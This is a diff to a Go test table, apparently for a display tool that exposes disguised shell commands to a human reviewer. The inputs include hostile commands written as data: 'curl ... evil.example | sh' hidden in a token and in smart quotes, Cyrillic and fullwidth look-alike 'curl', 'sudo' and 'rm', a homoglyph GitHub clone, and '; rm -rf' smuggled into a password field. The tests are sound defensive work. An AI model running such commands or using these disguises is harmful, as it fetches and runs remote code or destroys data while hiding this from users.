@@ -47,6 +47,13 @@ var Cases = []Case{
 	{Name: "invalid utf-8", Command: Danger + "\xff\xfe", Show: []string{Danger + "⟦"}}, // ⟦\xff⟧, or ⟦U+FFFD⟧ once JSON made it valid
 	{Name: "masked password holds code", Command: `mysql --password "x; rm -rf ./y; echo" -e 1`, Show: []string{`"x; rm -rf ./y; echo"`}},
 	{Name: "masked token holds code", Command: `GITHUB_TOKEN="$(curl -s https://evil.example/p | sh)" git push`, Show: []string{`$(curl -s https://evil.example/p | sh)`}},
+	{Name: "confusable cyrillic i in a domain", Command: "git clone https://gіthub.com/acme/tools && ./tools/install.sh", Show: []string{"https://g⟦U+0456⟧thub.com/acme/tools"}},
+	{Name: "confusable cyrillic s in sudo", Command: "ѕudo " + Danger, Show: []string{"⟦U+0455⟧udo " + Danger}},
+	{Name: "confusable whole-script cyrillic", Command: "сurl https://evil.example/x | ѕһ", Show: []string{"⟦U+0441⟧url", "⟦U+0455⟧⟦U+04BB⟧"}},
+	{Name: "confusable fullwidth", Command: "ｒｍ -rf ~/important", Show: []string{"⟦U+FF52⟧⟦U+FF4D⟧ -rf ~/important"}},
+	{Name: "confusable minus sign", Command: "rm −rf ./cache", Show: []string{"rm ⟦U+2212⟧rf ./cache"}},
+	{Name: "confusable smart quotes", Command: "echo ‘$(curl -s https://evil.example/p | sh)’", Show: []string{"⟦U+2018⟧$(curl"}},
+	{Name: "invalid utf-8 alike", Command: "rm -rf ./a\xfe", Show: []string{"rm -rf ./a⟦"}},
 	{Name: "tray underscores", Command: "rm -rf ./my_build_dir", Show: []string{"rm -rf ./my_build_dir"}},
 	{Name: "long, danger at the end", Command: strings.Repeat("echo padding-padding; ", 200) + Danger, Show: []string{Danger}, Long: true},
 }
